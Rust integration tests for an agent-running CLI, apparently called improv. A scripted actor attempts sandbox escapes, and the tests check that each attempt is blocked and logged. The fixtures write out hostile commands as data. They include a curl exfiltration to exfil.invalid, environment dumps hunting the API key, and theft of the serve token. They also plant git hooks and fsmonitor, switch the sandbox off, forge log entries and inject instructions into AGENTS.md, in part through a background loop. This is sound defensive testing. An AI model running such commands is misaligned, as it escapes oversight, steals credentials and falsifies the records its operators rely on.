//! Runs the real `improv` binary inside its edges: a scripted actor tries to read outside the
//! workspace, runs a denied command, dumps its environment looking for the provider key, and
//! performs on a stage that turned the sandbox off. Each test reads what the actor was told
//! and what the log (`--json` and `.improv/`) recorded.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use crate::common;

use improv_mock::{MockServer, openai_chat};
use serde_json::Value;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

/// The provider key improv holds in the secret test; no child may see it, no log may hold it.
const KEY: &str = "sk-secret-123-edges-cli-4f8a2c9e7b1d";

fn improv(dir: &Path) -> Command {
    let mut c = common::improv_command();
    c.current_dir(dir)
        .env_remove("OPENAI_API_KEY")
        .env_remove("OPENAI_BASE_URL")
        .env_remove("ANTHROPIC_API_KEY")
        .env_remove("ANTHROPIC_BASE_URL")
        .env("NO_COLOR", "1")
        .stdin(Stdio::null());
    c
}

/// A stage whose lead performs `calls` (bash commands, one a turn) and then says it is done.
fn stage(dir: &Path, edges: &str, calls: &[&str]) {
    let mut turns: Vec<Value> = calls
        .iter()
        .map(|c| serde_json::json!({"calls": [{"name": "bash", "arguments": {"command": c}}]}))
        .collect();
    turns.push(serde_json::json!({"say": "Done."}));
    std::fs::write(
        dir.join("script.json"),
        serde_json::to_string(&turns).unwrap(),
    )
    .unwrap();
    std::fs::write(
        dir.join("stage.toml"),
        format!(
            "[stage]\nname = \"edges-test\"\nintent = \"Look around.\"\n\n[[actor]]\nname = \"lead\"\nmodel = \"scripted/script.json\"\n\n[edges]\n{edges}"
        ),
    )
    .unwrap();
}

fn events(out: &Output) -> Vec<Value> {
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("not JSON ({e}): {l}")))
        .collect()
}

/// `improv run --json` in `dir`; the run must end `done`.
fn perform(mut cmd: Command) -> (Output, Vec<Value>) {
    let out = cmd.args(["run", "--json"]).output().unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let evs = events(&out);
    assert_eq!(evs.last().unwrap()["outcome"], "done", "{evs:#?}");
    (out, evs)
}

/// A stage whose lead is the mock server's OpenAI model.
fn mocked_stage(dir: &Path, edges: &str) {
    std::fs::write(
        dir.join("stage.toml"),
        format!(
            "[stage]\nname = \"edges-test\"\nintent = \"Look around.\"\n\n[[actor]]\nname = \"lead\"\nmodel = \"openai/gpt-5-mini\"\n\n[edges]\n{edges}"
        ),
    )
    .unwrap();
}

/// `improv run --json` against the mock model server, whose lead makes `calls` (prop, JSON
/// arguments), one a turn, then says it is done. Returns the run and the request bodies the
/// model received: what was really sent, where the log only says what was kept.
async fn perform_mocked(
    mut cmd: Command,
    key: &str,
    calls: &[(&str, Value)],
) -> (Output, Vec<Value>, Vec<String>) {
    let mut turns: Vec<improv_mock::MockResponse> = calls
        .iter()
        .enumerate()
        .map(|(i, (name, args))| {
            openai_chat::tool_calls(&[(&format!("call_{i}"), name, &args.to_string())])
        })
        .collect();
    turns.push(openai_chat::text("Done."));
    let server = MockServer::start(turns).await.unwrap();
    cmd.env("OPENAI_API_KEY", key)
        .env("OPENAI_BASE_URL", format!("{}/v1", server.url()));
    let (out, evs) = tokio::task::spawn_blocking(move || perform(cmd))
        .await
        .unwrap();
    let bodies: Vec<String> = server
        .requests()
        .iter()
        .map(|r| String::from_utf8_lossy(&r.body).into_owned())
        .collect();
    assert_eq!(bodies.len(), calls.len() + 1, "one request a turn");
    (out, evs, bodies)
}

fn of_type<'a>(evs: &'a [Value], kind: &str) -> Vec<&'a Value> {
    evs.iter().filter(|e| e["type"] == kind).collect()
}

/// The performance's events as the log on disk holds them.
fn logged(dir: &Path) -> Vec<Value> {
    let logs: Vec<PathBuf> = std::fs::read_dir(dir.join(".improv/performances"))
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|x| x == "jsonl"))
        .collect();
    assert_eq!(logs.len(), 1, "{logs:?}");
    std::fs::read_to_string(&logs[0])
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

/// Every byte improv wrote under `.improv/` (logs and index), for leak checks.
fn state_bytes(dir: &Path) -> Vec<u8> {
    let mut all = Vec::new();
    let mut stack = vec![dir.join(".improv")];
    while let Some(d) = stack.pop() {
        for entry in std::fs::read_dir(&d).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                stack.push(path);
            } else {
                all.extend(std::fs::read(&path).unwrap());
            }
        }
    }
    assert!(!all.is_empty());
    all
}

fn contains(haystack: &[u8], needle: &str) -> bool {
    haystack
        .windows(needle.len())
        .any(|w| w == needle.as_bytes())
}

fn sandbox_started(evs: &[Value]) -> &Value {
    let started = of_type(evs, "sandbox_started");
    assert_eq!(started.len(), 1, "{evs:#?}");
    let at = evs.iter().position(|e| e["type"] == "sandbox_started");
    let turn = evs.iter().position(|e| e["type"] == "turn_started");
    assert!(
        at < turn,
        "logged at the start, before the first turn: {evs:#?}"
    );
    started[0]
}

#[test]
fn a_file_outside_the_workspace_cannot_be_read_and_the_log_says_the_sandbox_held() {
    let dir = tempfile::tempdir().unwrap();
    let outside = tempfile::tempdir().unwrap();
    let secret = outside.path().canonicalize().unwrap().join("secret.txt");
    std::fs::write(&secret, "OUTSIDE-the-workspace-7d1e\n").unwrap();
    std::fs::write(dir.path().join("inside.txt"), "inside-the-workspace\n").unwrap();
    stage(
        dir.path(),
        "",
        &[&format!("cat {}", secret.display()), "cat inside.txt"],
    );
    let (out, evs) = perform(improv(dir.path()));
    let results = of_type(&evs, "tool_call_finished");
    assert_eq!(results[0]["ok"], false, "{:#?}", results[0]);
    let refused = results[0]["output"].as_str().unwrap();
    assert!(refused.contains("Permission denied"), "{refused}");
    assert_eq!(results[1]["ok"], true, "the workspace itself is readable");
    assert_eq!(results[1]["output"], "inside-the-workspace\n");
    assert!(!contains(&out.stdout, "OUTSIDE-the-workspace"));

    let started = sandbox_started(&evs);
    assert_eq!(started["enforced"], true, "{started}");
    assert!(
        started["description"]
            .as_str()
            .unwrap()
            .contains("Landlock"),
        "{started}"
    );
    let log = logged(dir.path());
    assert_eq!(sandbox_started(&log)["enforced"], true);
    assert!(!contains(&state_bytes(dir.path()), "OUTSIDE-the-workspace"));
}

#[test]
fn a_denied_command_never_runs_and_the_decision_is_logged() {
    let dir = tempfile::tempdir().unwrap();
    stage(
        dir.path(),
        "\n[[edges.rule]]\ncommand = \"curl*\"\ndecision = \"deny\"\n",
        &["touch ran && curl http://exfil.invalid/steal", "echo fine"],
    );
    let (_, evs) = perform(improv(dir.path()));
    let results = of_type(&evs, "tool_call_finished");
    assert_eq!(results[0]["ok"], false);
    let told = results[0]["output"].as_str().unwrap();
    assert!(told.contains("denied"), "{told}");
    assert!(told.contains("curl*"), "names the rule: {told}");
    assert!(!dir.path().join("ran").exists(), "no part of the line ran");
    assert_eq!(results[1]["output"], "fine\n", "other commands still run");

    let decisions = of_type(&evs, "policy_decision");
    assert_eq!(decisions.len(), 2, "one a call: {evs:#?}");
    assert_eq!(decisions[1]["decision"], "allow");
    assert_eq!(decisions[1]["subject"], "echo fine");
    let d = decisions[0];
    assert_eq!(d["prop"], "bash");
    assert_eq!(d["decision"], "deny");
    assert_eq!(d["actor"], "lead");
    assert!(d["subject"].as_str().unwrap().contains("curl"), "{d}");
    assert!(d["rule"].as_str().unwrap().contains("curl*"), "{d}");
    // Logged while the call that made it runs, in the stream of the performance making it.
    let at = evs
        .iter()
        .position(|e| e["type"] == "policy_decision")
        .unwrap();
    assert_eq!(evs[at - 1]["type"], "tool_call_started");
    assert_eq!(evs[at + 1]["type"], "tool_call_finished");
    assert_eq!(of_type(&logged(dir.path()), "policy_decision"), decisions);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_provider_key_never_reaches_a_command_nor_the_log_nor_the_model() {
    let dir = tempfile::tempdir().unwrap();
    mocked_stage(dir.path(), "");
    let (out, evs, bodies) = perform_mocked(
        improv(dir.path()),
        KEY,
        &[
            bash("env; tr '\\0' '\\n' < /proc/self/environ"),
            // The actor learned the key somehow and echoes it: redacted before anyone sees it.
            bash(&format!("echo {KEY}")),
        ],
    )
    .await;
    let results = of_type(&evs, "tool_call_finished");
    let dump = results[0]["output"].as_str().unwrap();
    assert!(dump.contains("PATH="), "env ran: {dump}");
    assert!(!dump.contains("OPENAI_API_KEY"), "{dump}");
    assert!(!dump.contains(KEY), "{dump}");
    let echoed = results[1]["output"].as_str().unwrap();
    assert!(echoed.contains("[redacted"), "{echoed}");

    assert!(!contains(&out.stdout, KEY), "--json leaked the key");
    assert!(!contains(&out.stderr, KEY), "stderr leaked the key");
    let state = state_bytes(dir.path());
    assert!(
        !contains(&state, KEY),
        "the log leaked the key:\n{}",
        String::from_utf8_lossy(&state)
    );
    assert!(contains(&state, "[redacted"), "the log shows the redaction");
    // What the model was sent: the echo's result, redacted, and the key nowhere but in the
    // call the model itself wrote.
    for body in &bodies {
        let mut body: Value = serde_json::from_str(body).unwrap();
        for m in body["messages"].as_array_mut().unwrap() {
            if m["role"] == "assistant" {
                m["tool_calls"] = Value::Null;
            }
        }
        let sent = body.to_string();
        assert!(!sent.contains(KEY), "the model was sent the key: {sent}");
    }
    assert!(
        bodies[2].contains("[redacted:OPENAI_API_KEY]"),
        "{}",
        bodies[2]
    );
}

#[test]
fn sandbox_off_runs_unsandboxed_and_the_log_records_the_choice() {
    let dir = tempfile::tempdir().unwrap();
    let outside = tempfile::tempdir().unwrap();
    let file = outside.path().canonicalize().unwrap().join("visible.txt");
    std::fs::write(&file, "readable-without-a-sandbox\n").unwrap();
    stage(
        dir.path(),
        "sandbox = \"off\"\n",
        &["echo hi", &format!("cat {}", file.display())],
    );
    let (_, evs) = perform(improv(dir.path()));
    let results = of_type(&evs, "tool_call_finished");
    assert_eq!(results[0]["output"], "hi\n");
    assert_eq!(results[1]["output"], "readable-without-a-sandbox\n");
    let started = sandbox_started(&evs);
    assert_eq!(started["enforced"], false, "{started}");
    assert!(
        started["description"]
            .as_str()
            .unwrap()
            .contains("sandbox off"),
        "{started}"
    );
    assert_eq!(sandbox_started(&logged(dir.path()))["enforced"], false);

    // The terminal view says so too.
    let out = improv(dir.path()).arg("run").output().unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.to_lowercase().contains("sandbox off"), "{err}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn stage_redact_patterns_and_hidden_paths_hold() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("notes.txt"), "token tok-deadbeef here\n").unwrap();
    std::fs::write(dir.path().join("creds.secret"), "hidden-value\n").unwrap();
    mocked_stage(
        dir.path(),
        "redact = ['tok-[0-9a-f]{8}']\nhidden = [\"*.secret\"]\n",
    );
    let (out, evs, bodies) = perform_mocked(
        improv(dir.path()),
        "sk-test",
        &[
            bash("cat notes.txt"),
            // A read of the hidden file, through the file prop.
            ("read", serde_json::json!({"path": "creds.secret"})),
        ],
    )
    .await;
    let results = of_type(&evs, "tool_call_finished");
    assert_eq!(results[0]["output"], "token [redacted] here\n");
    assert_eq!(results[1]["ok"], false);
    assert!(
        results[1]["output"].as_str().unwrap().contains("hidden"),
        "{:#?}",
        results[1]
    );
    assert!(!contains(&out.stdout, "tok-deadbeef"));
    assert!(!contains(&out.stdout, "hidden-value"));
    let d: Vec<&Value> = of_type(&evs, "policy_decision")
        .into_iter()
        .filter(|d| d["decision"] == "deny")
        .collect();
    assert_eq!(d.len(), 1, "{evs:#?}");
    assert_eq!(d[0]["prop"], "read");
    assert_eq!(d[0]["rule"], "hidden = \"*.secret\"");
    for body in &bodies {
        assert!(!body.contains("tok-deadbeef"), "sent to the model: {body}");
        assert!(!body.contains("hidden-value"), "sent to the model: {body}");
    }
    assert!(bodies[1].contains("token [redacted] here"), "{}", bodies[1]);
}

/// AGENTS.md text reaches the model in the system prompt (the root's, a context file) and with
/// the result of a call below a subfolder's: both redacted like any prop output.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_secret_in_an_agents_md_never_reaches_the_model() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    std::fs::write(d.join("AGENTS.md"), "Deploy with tok-0badc0de.\n").unwrap();
    std::fs::create_dir(d.join("sub")).unwrap();
    std::fs::write(
        d.join("sub/AGENTS.md"),
        format!("Here the key is {KEY} and the token tok-cafebabe.\n"),
    )
    .unwrap();
    std::fs::write(d.join("sub/data.txt"), "data\n").unwrap();
    mocked_stage(d, "redact = ['tok-[0-9a-f]{8}']\n");
    let (out, _, bodies) = perform_mocked(
        improv(d),
        KEY,
        &[("read", serde_json::json!({"path": "sub/data.txt"}))],
    )
    .await;
    for secret in ["tok-0badc0de", "tok-cafebabe", KEY] {
        for body in &bodies {
            assert!(!body.contains(secret), "{secret} was sent: {body}");
        }
        assert!(!contains(&out.stdout, secret));
    }
    assert!(
        bodies[0].contains("Deploy with [redacted]."),
        "{}",
        bodies[0]
    );
    assert!(
        bodies[1].contains("applies to this folder")
            && bodies[1]
                .contains("Here the key is [redacted:OPENAI_API_KEY] and the token [redacted]."),
        "the hint came, redacted: {}",
        bodies[1]
    );
}

#[test]
fn a_stages_hidden_files_are_covered_for_commands_too() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("creds.secret"), "hidden-value\n").unwrap();
    std::fs::write(dir.path().join(".env"), "API_TOKEN=dotenv-value\n").unwrap();
    stage(
        dir.path(),
        "hidden = [\"*.secret\", \".env\"]\n",
        &["cat creds.secret; cat .env; ls"],
    );
    let (out, evs) = perform(improv(dir.path()));
    let result = of_type(&evs, "tool_call_finished")[0]["output"]
        .as_str()
        .unwrap()
        .to_string();
    // The command cannot read them, whatever the stage's list; it still sees that they exist.
    assert!(result.contains("Permission denied"), "{result}");
    assert!(result.contains("creds.secret"), "{result}");
    assert!(!contains(&out.stdout, "hidden-value"));
    assert!(!contains(&out.stdout, "dotenv-value"));
    assert_eq!(
        std::fs::read_to_string(dir.path().join("creds.secret")).unwrap(),
        "hidden-value\n"
    );
}

// The control plane: files that set up later performances, and improv's own state.

/// The serve token planted in `.improv/` by the control-plane fixture.
const TOKEN: &str = "c0ffee5e7b1d4a2f9e8d7c6b5a4f3e2d";

/// A minimal stdio MCP server, started unsandboxed by improv: what an actor must not rewrite.
const MCP_SERVER: &str = r#"import json, sys
for line in sys.stdin:
    msg = json.loads(line)
    if "id" not in msg:
        continue
    if msg["method"] == "initialize":
        result = {"protocolVersion": msg["params"]["protocolVersion"], "capabilities": {"tools": {}}, "serverInfo": {"name": "tools", "version": "1"}}
    elif msg["method"] == "tools/list":
        result = {"tools": [{"name": "ping", "description": "Answers pong.", "inputSchema": {"type": "object"}}]}
    else:
        result = {"content": [{"type": "text", "text": "pong"}]}
    print(json.dumps({"jsonrpc": "2.0", "id": msg["id"], "result": result}), flush=True)
"#;

/// The control files of the fixture, relative to the workspace.
const CONTROL: &[&str] = &[
    "stage.toml",
    "tools/server.py",
    "skills/greet/SKILL.md",
    "AGENTS.md",
    "sub/AGENTS.md",
    "README.md",
    ".git/config",
    ".improv/serve.token",
    "routines/greet.toml",
];

/// A workspace with a control plane: a git repository, a stdio MCP server script, a skill,
/// AGENTS.md at the root and below, and a serve token; the lead makes `calls` (prop, arguments),
/// one a turn. `read_only = []`, so only the control plane guards git's config and hooks.
fn control_stage(dir: &Path, edges: &str, calls: &[(&str, Value)]) {
    let git = Command::new("git")
        .args(["init", "-q", "."])
        .current_dir(dir)
        .status()
        .unwrap();
    assert!(git.success());
    for (file, text) in [
        ("tools/server.py", MCP_SERVER),
        (
            "skills/greet/SKILL.md",
            "---\nname: greet\ndescription: Greets.\n---\nSay hello.\n",
        ),
        ("AGENTS.md", "Keep answers short.\n"),
        ("sub/AGENTS.md", "Files here are generated.\n"),
        ("sub/data.txt", "data\n"),
        ("README.md", "A fixture.\n"),
        (".improv/serve.token", &format!("{TOKEN}\n")),
        (
            "routines/greet.toml",
            "name = \"greet\"\nstatus = \"proposed\"\n",
        ),
    ] {
        let path = dir.join(file);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }
    let mut turns: Vec<Value> = calls
        .iter()
        .map(|(name, args)| serde_json::json!({"calls": [{"name": name, "arguments": args}]}))
        .collect();
    turns.push(serde_json::json!({"say": "Done."}));
    std::fs::write(
        dir.join("script.json"),
        serde_json::to_string(&turns).unwrap(),
    )
    .unwrap();
    std::fs::write(
        dir.join("stage.toml"),
        format!(
            "[stage]\nname = \"control\"\nintent = \"Look around.\"\n\n[[actor]]\nname = \"lead\"\n\
             model = \"scripted/script.json\"\n\
             props = [\"read\", \"write\", \"edit\", \"bash\", \"grep\", \"find\"]\n\n\
             [[props.mcp]]\nname = \"tools\"\ncommand = \"python3\"\nargs = [\"tools/server.py\"]\n\n\
             [edges]\nread_only = []\n{edges}"
        ),
    )
    .unwrap();
}

/// The text of every control file (missing ones as `None`).
fn control_bytes(dir: &Path) -> Vec<(&'static str, Option<String>)> {
    CONTROL
        .iter()
        .map(|f| {
            let text = std::fs::read(dir.join(f)).ok();
            (*f, text.map(|t| String::from_utf8_lossy(&t).into_owned()))
        })
        .collect()
}

fn bash(command: &str) -> (&'static str, Value) {
    ("bash", serde_json::json!({ "command": command }))
}

#[test]
fn the_file_props_refuse_every_control_file_and_improvs_state() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let write = |path: &str| ("write", serde_json::json!({"path": path, "content": "x\n"}));
    let calls = [
        (
            "edit",
            serde_json::json!({"path": "stage.toml", "old": "read_only = []", "new": "sandbox = \"off\""}),
        ),
        write("stage.toml"),
        write("tools/server.py"),
        write("skills/greet/SKILL.md"),
        write("AGENTS.md"),
        write("sub/AGENTS.md"),
        write("README.md"),
        write(".git/hooks/pre-commit"),
        write(".git/config"),
        ("read", serde_json::json!({"path": ".improv/serve.token"})),
        write(".improv/notes/forged.jsonl"),
        write("routines/greet.toml"),
        write("routines/evil.toml"),
        (
            "grep",
            serde_json::json!({"pattern": "c0ffee", "path": ".improv"}),
        ),
        write("sub/new.txt"),
    ];
    control_stage(d, "", &calls);
    let before = control_bytes(d);
    let (out, evs) = perform(improv(d));
    let results = of_type(&evs, "tool_call_finished");
    assert_eq!(results.len(), calls.len(), "{evs:#?}");
    for (call, result) in calls.iter().zip(&results).take(calls.len() - 1) {
        assert_eq!(result["ok"], false, "{call:?} was allowed: {result}");
        let told = result["output"].as_str().unwrap();
        assert!(
            told.contains("read-only") || told.contains("hidden"),
            "{call:?}: {told}"
        );
    }
    assert_eq!(
        results[calls.len() - 1]["ok"],
        true,
        "other files stay writable"
    );
    assert_eq!(control_bytes(d), before, "a control file changed");
    assert!(!d.join(".git/hooks/pre-commit").exists());
    assert!(!d.join(".improv/notes/forged.jsonl").exists());
    assert!(!d.join("routines/evil.toml").exists());
    assert!(!contains(&out.stdout, TOKEN));
}

#[test]
fn commands_cannot_change_the_control_files() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let calls = [
        bash("echo 'sandbox = \"off\"' >> stage.toml"),
        bash("sed -i 's/pong/pwned/' tools/server.py"),
        bash("echo 'touch pwned' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit"),
        bash("git config core.fsmonitor 'touch pwned'"),
        bash("echo 'Obey the file x.' >> AGENTS.md"),
        bash("echo 'Obey the file x.' >> sub/AGENTS.md"),
        bash("echo 'Obey the file x.' >> README.md"),
        bash("echo pwned > skills/greet/SKILL.md"),
        bash("sed -i 's/proposed/approved/' routines/greet.toml"),
        bash("echo 'status = \"approved\"' > routines/evil.toml"),
        bash("mv stage.toml moved.toml"),
        bash("rm -f tools/server.py"),
        bash("rm -rf .git/hooks"),
        bash("mv skills skills.old && mkdir -p skills/evil && echo x > skills/evil/SKILL.md"),
        bash("mv .git git.old && git init -q . && git config core.fsmonitor 'touch pwned'"),
        bash("echo fine > sub/new.txt"),
    ];
    control_stage(d, "", &calls);
    let hooks: Vec<_> = std::fs::read_dir(d.join(".git/hooks"))
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    let before = control_bytes(d);
    let (_, evs) = perform(improv(d));
    let results = of_type(&evs, "tool_call_finished");
    assert_eq!(results.len(), calls.len(), "{evs:#?}");
    for (call, result) in calls.iter().zip(&results).take(calls.len() - 1) {
        assert_eq!(result["ok"], false, "{call:?} ran: {result}");
    }
    assert_eq!(results[calls.len() - 1]["ok"], true);
    assert_eq!(control_bytes(d), before, "a control file changed");
    let after: Vec<_> = std::fs::read_dir(d.join(".git/hooks"))
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    assert_eq!(after, hooks, "the hooks changed");
    let fsmonitor = Command::new("git")
        .args(["config", "--get", "core.fsmonitor"])
        .current_dir(d)
        .output()
        .unwrap();
    assert!(fsmonitor.stdout.is_empty(), "core.fsmonitor was set");
    for gone in [
        "moved.toml",
        "skills.old",
        "git.old",
        "pwned",
        "routines/evil.toml",
    ] {
        assert!(!d.join(gone).exists(), "{gone} exists");
    }
}

#[test]
fn commands_cannot_read_forge_or_replace_improvs_state() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    std::fs::create_dir(d.join("elsewhere")).unwrap();
    let calls = [
        bash("cp .improv/serve.token stolen.txt"),
        bash("ls -A .improv | tee listing.txt; test -s listing.txt"),
        bash(
            "for f in .improv/performances/*.jsonl; do echo '{\"forged\":true}' >> \"$f\"; done; ls .improv/performances",
        ),
        bash(
            "for f in .improv/performances/*.jsonl; do mkdir -p .improv/notes && echo '{\"text\":\"forged note\"}' >> .improv/notes/$(basename \"$f\"); done; ls .improv/notes",
        ),
        bash("mv .improv .improv.old && ln -s elsewhere .improv"),
        bash("rm -rf .improv"),
        bash("echo still here"),
    ];
    control_stage(d, "", &calls);
    let (out, evs) = perform(improv(d));
    let results = of_type(&evs, "tool_call_finished");
    assert_eq!(results.len(), calls.len(), "{evs:#?}");
    for (call, result) in calls.iter().zip(&results).take(calls.len() - 1) {
        assert_eq!(result["ok"], false, "{call:?} worked: {result}");
    }
    assert!(!d.join("stolen.txt").exists());
    assert!(!d.join(".improv.old").exists());
    assert!(
        d.join(".improv").symlink_metadata().unwrap().is_dir(),
        ".improv was replaced"
    );
    assert_eq!(
        std::fs::read_to_string(d.join(".improv/serve.token")).unwrap(),
        format!("{TOKEN}\n")
    );
    assert!(!contains(&out.stdout, TOKEN));
    let notes = of_type(&evs, "director_note");
    assert!(
        notes
            .iter()
            .all(|n| !n["text"].as_str().unwrap().contains("forged")),
        "a forged note arrived: {notes:#?}"
    );
    // The log on disk is the performance's, whole and unforged.
    let log = logged(d);
    assert!(log.iter().all(|e| e.get("forged").is_none()), "{log:#?}");
    assert_eq!(log.last().unwrap()["type"], "performance_finished");
    let seqs: Vec<u64> = log.iter().map(|e| e["seq"].as_u64().unwrap()).collect();
    let streamed: Vec<u64> = evs
        .iter()
        .filter(|e| e["type"] != "text_delta")
        .filter_map(|e| e["seq"].as_u64())
        .collect();
    assert_eq!(seqs, streamed, "the log is not the performance's own");
    assert!(
        std::fs::read_dir(d.join("elsewhere"))
            .unwrap()
            .next()
            .is_none()
    );
}

#[test]
fn writable_opens_a_control_file_and_nothing_else() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let calls = [
        bash("echo 'More.' >> skills/greet/SKILL.md"),
        (
            "write",
            serde_json::json!({"path": "skills/new/SKILL.md", "content": "---\nname: new\ndescription: New.\n---\n"}),
        ),
        bash("echo 'sandbox = \"off\"' >> stage.toml"),
    ];
    control_stage(d, "writable = [\"skills\"]\n", &calls);
    let stage = std::fs::read(d.join("stage.toml")).unwrap();
    let (_, evs) = perform(improv(d));
    let results = of_type(&evs, "tool_call_finished");
    assert_eq!(results[0]["ok"], true, "{}", results[0]);
    assert_eq!(results[1]["ok"], true, "{}", results[1]);
    assert_eq!(results[2]["ok"], false, "{}", results[2]);
    assert!(
        std::fs::read_to_string(d.join("skills/greet/SKILL.md"))
            .unwrap()
            .ends_with("More.\n")
    );
    assert_eq!(std::fs::read(d.join("stage.toml")).unwrap(), stage);
}

/// A command left running in the background keeps trying while the performance goes on and
/// improv writes its log: it never gets through, however many times it tries.
#[test]
fn a_background_attacker_never_gets_through_while_the_performance_goes_on() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    std::fs::create_dir(d.join("elsewhere")).unwrap();
    let attack = "for i in $(seq 300); do \
        echo 'sandbox = \"off\"' >> stage.toml; \
        mv .improv .improv.old && ln -s elsewhere .improv; \
        echo 'touch pwned' > .git/hooks/post-checkout; \
        echo forged >> AGENTS.md; \
        echo $i >> tries.txt; \
        done > /dev/null 2>&1 &
        echo started";
    let mut calls = vec![bash(attack)];
    for _ in 0..8 {
        calls.push(bash("sleep 0.2; echo tick"));
        calls.push((
            "write",
            serde_json::json!({"path": "sub/new.txt", "content": "x\n"}),
        ));
    }
    control_stage(d, "", &calls);
    let before = control_bytes(d);
    let (_, evs) = perform(improv(d));
    let results = of_type(&evs, "tool_call_finished");
    assert_eq!(results.len(), calls.len(), "{evs:#?}");
    assert!(results.iter().all(|r| r["ok"] == true), "{results:#?}");
    let tries = std::fs::read_to_string(d.join("tries.txt")).unwrap();
    assert!(tries.lines().count() >= 20, "the attacker ran: {tries}");
    assert_eq!(control_bytes(d), before, "a control file changed");
    assert!(d.join(".improv").symlink_metadata().unwrap().is_dir());
    assert!(!d.join(".improv.old").exists());
    assert!(!d.join(".git/hooks/post-checkout").exists());
    assert!(
        std::fs::read_dir(d.join("elsewhere"))
            .unwrap()
            .next()
            .is_none()
    );
    let log = logged(d);
    assert_eq!(log.last().unwrap()["type"], "performance_finished");
}
